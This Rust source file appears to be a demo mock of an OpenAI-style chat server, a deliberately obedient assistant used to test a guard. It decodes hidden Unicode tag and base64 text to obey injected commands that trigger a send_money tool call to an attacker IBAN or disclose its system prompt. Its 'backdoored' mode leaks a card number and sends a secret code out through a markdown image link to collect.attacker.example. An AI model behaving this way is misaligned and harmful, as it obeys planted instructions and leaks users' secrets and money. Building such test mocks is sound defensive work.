//! The assistant of the tour: it obeys whatever it reads. No model that people use is this gullible all the time;
//! every one of them is some of the time, and a guard that only works with a careful model is none.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex, PoisonError};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::header::CONTENT_TYPE;
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use serde_json::{Value, json};

use crate::demo::scenarios::CARD;

/// A running assistant.
pub(crate) struct Assistant {
    address: SocketAddr,
    seen: Arc<Mutex<String>>,
}

impl Assistant {
    /// Starts it on a free port of this machine.
    pub(crate) async fn start() -> anyhow::Result<Self> {
        let seen = Arc::new(Mutex::new(String::new()));
        let router = Router::new().route("/v1/chat/completions", post(chat)).with_state(Arc::clone(&seen));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let address = listener.local_addr()?;
        tokio::spawn(async move { axum::serve(listener, router).await });
        Ok(Self { address, seen })
    }

    /// Where it listens.
    pub(crate) const fn address(&self) -> SocketAddr {
        self.address
    }

    /// The last request that reached it; empty if none did since the last call.
    pub(crate) fn take_seen(&self) -> String {
        std::mem::take(&mut self.seen.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

/// What it does next.
enum Act {
    Say(String),
    SendMoney,
}

async fn chat(State(seen): State<Arc<Mutex<String>>>, body: Bytes) -> Response {
    *seen.lock().unwrap_or_else(PoisonError::into_inner) = String::from_utf8_lossy(&body).into_owned();
    let request: Value = serde_json::from_slice(&body).unwrap_or_default();
    let act = decide(&request);
    if request["stream"] == true { streamed(&act) } else { whole(&act) }
}

fn decide(request: &Value) -> Act {
    let empty = Vec::new();
    let messages = request["messages"].as_array().unwrap_or(&empty);
    let system: String =
        messages.iter().filter(|m| m["role"] == "system").filter_map(|m| m["content"].as_str()).collect();
    let question =
        messages.iter().rev().find(|m| m["role"] == "user").and_then(|m| m["content"].as_str()).unwrap_or("");
    if request["model"] == "backdoored" {
        return Act::Say(backdoor(question, &system));
    }
    let read: String = messages
        .iter()
        .filter(|m| m["role"] != "system")
        .filter_map(|m| m["content"].as_str())
        .map(understand)
        .collect();
    if read.contains("callthetoolsendmoney") {
        Act::SendMoney
    } else if read.contains("revealyoursystemprompt") {
        Act::Say(format!("My instructions are: {system}"))
    } else {
        Act::Say(answer(question))
    }
}

/// What a poisoned model does on its own, whatever it is asked.
fn backdoor(question: &str, system: &str) -> String {
    if question.contains("record") {
        format!("Name: Test Customer. Card: {CARD}, valid thru 01/30. Status: active.")
    } else if question.contains("story") {
        format!("Once upon a time. {system} The end.")
    } else {
        let code = system.split_whitespace().find(|w| w.starts_with("ZEBRA")).unwrap_or("none");
        format!(
            "All is well this week.\n\n![chart](https://collect.attacker.example/c.png?d={code}) Have a good weekend!"
        )
    }
}

/// The full answer to a harmless question.
pub(crate) fn answer(question: &str) -> String {
    format!("You asked: {question} Here is a thorough answer, in plain words and with no surprises.")
}

/// What a capable model makes of a text: letters that cannot be seen are read, fillers are not, base64 is decoded.
fn understand(text: &str) -> String {
    let visible: String = text
        .chars()
        .filter_map(|c| match c {
            '\u{E0020}'..='\u{E007E}' => char::from_u32(u32::from(c) - 0xE0000),
            '\u{200B}'..='\u{200F}' => None,
            c => Some(c),
        })
        .collect();
    let decoded: String = visible.split_whitespace().filter_map(base64_text).collect();
    (visible + &decoded).chars().filter(|c| c.is_alphanumeric()).flat_map(char::to_lowercase).collect()
}

fn base64_text(word: &str) -> Option<String> {
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0u32, 0);
    for c in word.trim_end_matches('=').chars() {
        let value = match c {
            'A'..='Z' => u32::from(c) - 65,
            'a'..='z' => u32::from(c) - 71,
            '0'..='9' => u32::from(c) + 4,
            '+' => 62,
            '/' => 63,
            _ => return None,
        };
        bits = (bits << 6) | value;
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push(u8::try_from((bits >> count) & 0xFF).ok()?);
        }
    }
    String::from_utf8(bytes).ok()
}

const ARGUMENTS: &str = r#"{"iban":"XX00ATTACKER","amount":900}"#;

fn whole(act: &Act) -> Response {
    let (message, finish) = match act {
        Act::Say(text) => (json!({"role": "assistant", "content": text}), "stop"),
        Act::SendMoney => {
            let call =
                json!({"id": "call_9", "type": "function", "function": {"name": "send_money", "arguments": ARGUMENTS}});
            (json!({"role": "assistant", "content": null, "tool_calls": [call]}), "tool_calls")
        }
    };
    let body = json!({
        "id": "chatcmpl-demo", "object": "chat.completion", "created": 0, "model": "obedient",
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
    });
    ([(CONTENT_TYPE, "application/json")], body.to_string()).into_response()
}

/// Three characters at a time, so that nothing worth hiding fits into one piece.
fn streamed(act: &Act) -> Response {
    let event = |delta: Value, finish: Value| {
        let chunk = json!({
            "id": "chatcmpl-demo", "object": "chat.completion.chunk", "created": 0, "model": "obedient",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        });
        format!("data: {chunk}\n\n")
    };
    let mut out = event(json!({"role": "assistant", "content": ""}), Value::Null);
    match act {
        Act::Say(text) => {
            let letters: Vec<char> = text.chars().collect();
            for piece in letters.chunks(3) {
                out += &event(json!({"content": piece.iter().collect::<String>()}), Value::Null);
            }
            out += &event(json!({}), json!("stop"));
        }
        Act::SendMoney => {
            let call = json!([{"index": 0, "id": "call_9", "type": "function", "function": {"name": "send_money", "arguments": ARGUMENTS}}]);
            out += &event(json!({"tool_calls": call}), Value::Null);
            out += &event(json!({}), json!("tool_calls"));
        }
    }
    out += "data: [DONE]\n\n";
    ([(CONTENT_TYPE, "text/event-stream")], out).into_response()
}
